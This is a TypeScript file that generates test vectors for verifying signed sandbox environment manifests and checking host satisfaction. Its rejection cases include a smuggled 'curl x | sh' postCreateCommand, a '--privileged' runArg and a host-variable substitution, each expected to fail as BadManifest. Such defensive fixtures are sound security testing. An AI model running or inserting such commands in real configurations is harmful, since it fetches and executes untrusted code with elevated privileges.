// C7 signed-manifest vectors: verification broken systematically, and satisfaction.
import { addressOf, blake3, canonicalize, toHex, utf8, type Json, type JsonObject } from "@sbx/wire";
import { ingestManifest, MANIFEST_PAYLOAD_TYPE, offerFor, signManifest } from "@sbx/sandbox-attest/manifest";
import { errCase, flipBase64Byte, okCase, signedRaw } from "../../generate/build.ts";
import { manifestOutputOracle } from "../../oracle/manifest.ts";
import type { Vector } from "../../types.ts";
import { C, HEX, mallory, steward } from "./common.ts";
import { FULL } from "./ingest.ts";

const signRaw = (body: Uint8Array) => signedRaw(MANIFEST_PAYLOAD_TYPE, body, steward);

export function verifyVectors(): Vector[] {
  const m = ingestManifest(FULL);
  const envelope = signManifest(m, steward);
  const env = envelope as unknown as JsonObject;
  // By construction, not by verifyManifest: the manifest address of the document the oracle
  // computes for FULL (§14.5), and the document address, the digest of the payload bytes (§2.4).
  const out = {
    address: (manifestOutputOracle("manifest.ingest", { source: FULL }) as JsonObject).address ?? null,
    document: `blake3:${toHex(blake3(Buffer.from(envelope.payload, "base64")))}`,
  };
  const signed = (v: unknown) => signRaw(utf8(canonicalize(v)));
  const e = m.environment;
  const sneaky = { ...e, env: { ...e.env, HOME: "${localEnv:HOME}" } };
  const unsorted = { ...e, forward_ports: [8080, 3000, "db:5432"] };
  const bad: [string, JsonObject, string][] = [
    [
      "smuggled-command",
      signed({ ...m, environment: { ...e, postCreateCommand: "curl x | sh" } }),
      "BadManifest",
    ],
    ["smuggled-runargs", signed({ ...m, runArgs: ["--privileged"] }), "BadManifest"],
    ["host-substitution", signed({ ...m, environment: sneaky, address: addressOf(sneaky) }), "BadManifest"],
    ["unpinned-image", signed({ ...m, environment: { ...e, image: "ubuntu:22.04" } }), "BadManifest"],
    ["not-normalised", signed({ ...m, environment: unsorted, address: addressOf(unsorted) }), "BadManifest"],
    ["address-mismatch", signed({ ...m, address: addressOf({}) }), "BadManifest"],
    ["ignored-not-ignorable", signed({ ...m, ignored: ["/postCreateCommand"] }), "BadManifest"],
    ["wrong-type", signed({ ...m, type: "sandbox-attest.manifest/2" }), "BadManifest"],
    ["not-canonical", signRaw(utf8(JSON.stringify(JSON.parse(canonicalize(m)), null, 1))), "NotCanonical"],
    [
      "flipped-signature",
      {
        ...env,
        signatures: [{ keyid: steward.did, sig: flipBase64Byte(envelope.signatures[0]?.sig ?? "", 0) }],
      },
      "BadSignature",
    ],
    ["flipped-payload", { ...env, payload: flipBase64Byte(envelope.payload, 40) }, "BadSignature"],
    ["wrong-payload-type", { ...env, payloadType: "application/vnd.in-toto+json" }, "WrongPayloadType"],
  ];
  // §14.5 the write-back: gpu `true` when required with neither cores nor memory, `"optional"`,
  // `false`; an environment no ingestion gives (optional with cores) is not normalised.
  const fixedPoint = (id: string, desc: string, source: string): Vector => {
    const mm = ingestManifest(source);
    const ev = signManifest(mm, steward);
    return okCase(
      C,
      `c7-verify-${id}`,
      desc,
      "manifest.verify",
      { envelope: ev as unknown as JsonObject },
      {
        address: (manifestOutputOracle("manifest.ingest", { source }) as JsonObject).address ?? null,
        document: `blake3:${toHex(blake3(Buffer.from(ev.payload, "base64")))}`,
      },
    );
  };
  const PINNED = `registry.example/team/env@sha256:${HEX}`;
  const optCores = {
    ...e,
    host_requirements: { ...e.host_requirements, gpu: { mode: "optional", cores: 2, memory_bytes: "0" } },
  };
  const fixed = [
    fixedPoint(
      "gpu-required-bare",
      "gpu true: required with no cores or memory stated, written back as true, verifies",
      `{"image": "${PINNED}", "hostRequirements": {"gpu": true}}`,
    ),
    fixedPoint(
      "gpu-optional",
      'gpu optional, written back as "optional", verifies',
      `{"image": "${PINNED}", "hostRequirements": {"gpu": "optional", "memory": "1kb"}}`,
    ),
    fixedPoint(
      "value-forms",
      "variable names with a dash, a dot and a space, a user ending in $: written back and ingested again, verifies",
      `{"image": "${PINNED}", "containerEnv": {"my-var.x": "1"}, "remoteEnv": {"a b": null}, "remoteUser": "svc$"}`,
    ),
    errCase(
      C,
      "c7-verify-gpu-optional-cores",
      'an optional gpu stating cores: no ingestion gives it (written back as "optional", it loses them), BadManifest',
      "manifest.verify",
      { envelope: signed({ ...m, environment: optCores, address: addressOf(optCores) }) },
      "BadManifest",
    ),
  ];
  return [
    ...fixed,
    okCase(
      C,
      "c7-verify-ok",
      "a steward-signed manifest verifies",
      "manifest.verify",
      { envelope: env },
      out,
    ),
    okCase(
      C,
      "c7-verify-steward",
      "signed by the expected steward",
      "manifest.verify",
      { envelope: env, stewards: [steward.did] },
      out,
    ),
    errCase(
      C,
      "c7-verify-unknown-steward",
      "signed, but not by the expected steward",
      "manifest.verify",
      { envelope: env, stewards: [mallory.did] },
      "UnknownSigner",
    ),
    ...bad.map(([id, envelope, code]) =>
      errCase(C, `c7-verify-${id}`, `verification refuses ${id}`, "manifest.verify", { envelope }, code),
    ),
  ];
}

export function satisfyVectors(): Vector[] {
  const m = ingestManifest(FULL);
  const host = {
    cpus: 8,
    memory_bytes: String(16 * 2 ** 30),
    storage_bytes: String(64 * 2 ** 30),
    gpu: { cores: 4, memory_bytes: "0" },
  };
  const exact = offerFor(m.environment, host) as unknown as JsonObject;
  const mj = m as unknown as Json;
  const sat = (id: string, desc: string, offered: Json, output: Json, address?: string) =>
    okCase(
      C,
      `c7-satisfies-${id}`,
      desc,
      "manifest.satisfies",
      address === undefined ? { manifest: mj, offered } : { manifest: mj, offered, address },
      output,
    );
  const mismatch = (...pointers: string[]) => ({ ok: false, code: "EnvironmentMismatch", pointers });
  return [
    sat("exact", "the exact environment on a big enough host", exact, { ok: true }),
    sat("by-address", "the manifest the recorded address names", exact, { ok: true }, m.address),
    sat(
      "mirror",
      "same digest under a mirror's name",
      { ...exact, image: `mirror.local/env@sha256:${HEX}` },
      { ok: true },
    ),
    sat(
      "other-address",
      "a recorded address naming another manifest",
      exact,
      { ok: false, code: "ManifestMismatch", pointers: [""] },
      addressOf({ other: 1 }),
    ),
    sat(
      "image",
      "another image digest",
      { ...exact, image: `registry.example/team/env@sha256:${"f".repeat(64)}` },
      mismatch("/image"),
    ),
    sat(
      "env-extra",
      "an extra variable",
      { ...exact, env: { ...(exact.env as JsonObject), EXTRA: "1" } },
      mismatch("/env/EXTRA"),
    ),
    sat("user", "another user", { ...exact, user: "root" }, mismatch("/user")),
    sat(
      "small-host",
      "a host without the cpus, memory and GPU",
      { ...exact, host: { cpus: 2, memory_bytes: "1", storage_bytes: String(64 * 2 ** 30), gpu: null } },
      mismatch("/host_requirements/cpus", "/host_requirements/memory_bytes", "/host_requirements/gpu"),
    ),
    everyPointer(exact, sat, mismatch),
  ];
}

/**
 * everyPointer: every comparison of §14.7 fails at once, so the vector pins the pointers' order
 * (image, env by name in UTF-16 order with RFC 6901 escapes, user, workspace folder, cpus, memory,
 * storage, GPU), which a single mismatch cannot.
 */
function everyPointer(
  exact: JsonObject,
  sat: (id: string, desc: string, offered: Json, output: Json) => Vector,
  mismatch: (...pointers: string[]) => Json,
): Vector {
  const env = { ...(exact.env as JsonObject), "b/c": "1", "a~": "1", Q_9: "1" };
  const names = Object.keys(env).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
  const extra = names.filter((n) => ["b/c", "a~", "Q_9"].includes(n));
  const escaped = extra.map((n) => `/env/${n.replaceAll("~", "~0").replaceAll("/", "~1")}`);
  const offered = {
    ...exact,
    image: `registry.example/team/env@sha256:${"e".repeat(64)}`,
    env,
    user: "root",
    workspace_folder: "/elsewhere",
    host: { cpus: 1, memory_bytes: "1", storage_bytes: "1", gpu: null },
  };
  return sat(
    "every-pointer",
    "every comparison fails: the pointers in §14.7's order, env names in UTF-16 order",
    offered,
    mismatch(
      "/image",
      ...escaped,
      "/user",
      "/workspace_folder",
      "/host_requirements/cpus",
      "/host_requirements/memory_bytes",
      "/host_requirements/storage_bytes",
      "/host_requirements/gpu",
    ),
  );
}
